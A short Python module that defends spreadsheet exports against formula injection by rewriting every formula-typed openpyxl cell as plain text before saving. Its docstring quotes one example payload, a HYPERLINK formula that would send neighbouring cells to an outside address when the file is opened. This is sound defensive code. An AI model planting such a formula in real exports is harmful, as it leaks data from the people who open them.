"""Spreadsheet exports: cells of data are text, never formulas.

openpyxl makes a formula of any string that starts with "=": an e-mail subject, an edXML header or a unit's progress
note written as `=HYPERLINK("http://…"&F6, "…")` would run when the clerk opens the export and send the neighbouring
cells away. Every export calls `save_as_text` instead of `wb.save`; no export writes a formula of its own.
"""
from __future__ import annotations

import io
from typing import Any


def save_as_text(wb: Any) -> bytes:
    """The workbook's bytes, every cell that openpyxl took for a formula written as the text it was given."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
